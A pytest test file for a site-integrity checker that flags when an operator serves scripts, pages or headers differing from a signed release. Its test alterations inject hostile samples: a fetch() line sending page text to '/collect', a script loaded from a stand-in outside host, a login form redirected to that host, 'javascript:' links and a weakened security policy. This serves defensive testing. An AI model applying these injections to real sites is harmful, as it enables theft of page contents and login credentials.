"""Attack: the operator serves scripts, pages or headers that are not those of the release. `candour check-site` names them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from candour.apps.ops.release import site
from candour.apps.ops.release.fetching import fetch
from candour.domain.ledger import Signer
from tests.attacks.altering import Alteration, Response, nothing
from tests.attacks.released import ReleasedSite, released_site

pytestmark = pytest.mark.slow
EVIL = "fetch('/collect?' + document.body.innerText)"


@pytest.fixture(scope="module")
def released(built_site: None) -> Iterator[ReleasedSite]:
    with released_site() as running:
        yield running


@pytest.fixture
def check(released: ReleasedSite, capsys: pytest.CaptureFixture[str]) -> Iterator[object]:
    """A function that checks the site under an alteration; returns the exit code and what was printed."""

    def checked(alteration: Alteration) -> tuple[int, str]:
        released.operator.alter = alteration
        code = site.run(released.operator.url, None, released.key, None)
        shown = capsys.readouterr()
        return code, shown.out + shown.err

    yield checked
    released.operator.alter = nothing


def test_the_site_as_released_is_found_the_same(check: Any) -> None:
    code, said = check(nothing)
    assert code == site.SAME, said
    assert re.search(r"[1-9][0-9] pages and [0-9]+ files are those of version [0-9.]+ \(commit c{40}\)\.", said)


def _altered_script(response: Response) -> None:
    if re.fullmatch(r"/static/candour/journey\.[0-9a-f]+\.js", response.path):
        response.body += EVIL.encode()


def _altered_where_compressed(response: Response) -> None:
    if response.path == "/static/candour/staff.js" and response.compressed:
        response.body += EVIL.encode()


def _inline_script(response: Response) -> None:
    if response.path == "/report/safety/":
        response.replace("</head>", f"<script>{EVIL}</script></head>")


def _hidden_script(response: Response) -> None:
    if response.path == "/help/":
        response.replace("</main>", "<!--><script src=/static/candour/x.js></script>--></main>")


def _own_unlisted_script(response: Response) -> None:
    if response.path == "/":
        response.replace("</head>", '<script type="module" src="/static/candour/helper.js"></script></head>')


def _foreign_script(response: Response) -> None:
    if response.path == "/":
        response.replace("</head>", '<script src="https://elsewhere.example/a.js"></script></head>')


def _policy_dropped(response: Response) -> None:
    if response.path == "/report/safety/":
        response.headers.pop("Content-Security-Policy", None)


def _policy_widened(response: Response) -> None:
    if response.is_page:
        policy = response.headers["Content-Security-Policy"]
        response.headers["Content-Security-Policy"] = policy.replace("connect-src 'self'", "connect-src *")


def _frame(response: Response) -> None:
    if response.path == "/mailbox/":
        response.replace("</main>", '<iframe src="https://elsewhere.example/"></iframe></main>')


def _handler(response: Response) -> None:
    if response.path == "/law/":
        response.replace("<main", '<main onfocus="collect()"')


def _form_sent_elsewhere(response: Response) -> None:
    if response.path == "/staff/account/login/":
        response.body = re.sub(
            rb'action="[^"]*"|<form method="post"', b'<form method="post" action="https://elsewhere.example/"', response.body
        )


def _link_that_runs_a_script(response: Response) -> None:
    if response.path == "/help/":
        response.replace("</main>", '<a href=" javascript:collect()">Help</a></main>')


def _refresh(response: Response) -> None:
    if response.path == "/outcomes/":
        response.headers["Refresh"] = "5; url=https://elsewhere.example/"


@pytest.mark.parametrize(
    ("alteration", "finding"),
    [
        (_altered_script, r"/static/candour/journey\.[0-9a-f]+\.js differs from the release: SHA-256"),
        (_altered_where_compressed, r"/static/candour/staff\.js differs from the release where it is served compressed"),
        (_inline_script, r"/report/safety/ contains an inline script that is not in the release \(sha256-"),
        (_hidden_script, r"/help/ hides an element <script> from this check\."),
        (_own_unlisted_script, r"/ loads a script or style that is not in the release: /static/candour/helper\.js\."),
        (_foreign_script, r"/ loads a script or style from another place: https://elsewhere\.example/a\.js\."),
        (_policy_dropped, r"/report/safety/ lacks the header Content-Security-Policy\."),
        (_policy_widened, r"/mailbox/ has another Content-Security-Policy: .*connect-src \*"),
        (_frame, r"/mailbox/ contains an element <iframe>\."),
        (_handler, r"/law/ runs a script from the attribute onfocus of <main>\."),
        (_form_sent_elsewhere, r"/staff/account/login/ loads from or sends to another place: https://elsewhere\.example/\."),
        (_link_that_runs_a_script, r"/help/ has a link that runs a script: "),
        (_refresh, r"/outcomes/ has a header Refresh, which no release sends\."),
    ],
)
def test_what_the_operator_altered_is_named(check: Any, alteration: Alteration, finding: str) -> None:
    code, said = check(alteration)
    assert code == site.DIFFERS
    assert re.search(f"^DIFFERS: {finding}", said, re.MULTILINE), said


def test_a_file_altered_on_the_servers_disk_is_named(released: ReleasedSite, check: Any) -> None:
    (path,) = released.static.glob("candour/mailbox.????????????.js")
    whole = path.read_bytes()
    path.write_bytes(whole.replace(b"fetch", b"fetcj"))
    try:
        code, said = check(nothing)
    finally:
        path.write_bytes(whole)
    assert code == site.DIFFERS
    assert f"DIFFERS: /static/candour/{path.name} differs from the release" in said


def test_a_manifest_that_the_operator_signed_alone_is_refused(
    released: ReleasedSite, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = tmp_path / "release.note"
    own = Signer.generate("candour.example/release")
    forged.write_text(released.note.read_text().partition("\n\n")[0] + "\n", encoding="utf-8")
    forged.write_text(own.sign(forged.read_text()), encoding="utf-8")
    assert site.run(released.operator.url, str(forged), released.key, None) == site.DIFFERS
    assert "not signed by candour.example/release" in capsys.readouterr().err


def test_a_release_that_the_ledger_does_not_name_is_found(
    released: ReleasedSite, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "release.note"
    text = released.note.read_text().partition("\n\n")[0].replace("c" * 40, "d" * 40)
    other.write_text(released.signer.sign(text + "\n"), encoding="utf-8")
    assert site.run(released.operator.url, str(other), released.key, None) == site.DIFFERS
    assert "The ledger says that another release was started" in capsys.readouterr().err


def test_the_receipt_of_the_release_is_checked_by_the_verifier_of_any_receipt(released: ReleasedSite, tmp_path: Path) -> None:
    receipt = tmp_path / "receipt.json"
    receipt.write_bytes(fetch(f"{released.operator.url}/release/receipt").body)
    assert released.installed.command("verify", str(receipt)).returncode == 0


def test_an_address_without_a_site_cannot_be_checked() -> None:
    assert site.run("report.example", None, None, None) == site.UNUSABLE
    assert site.run("http://127.0.0.1:9", None, None, None) == site.UNUSABLE
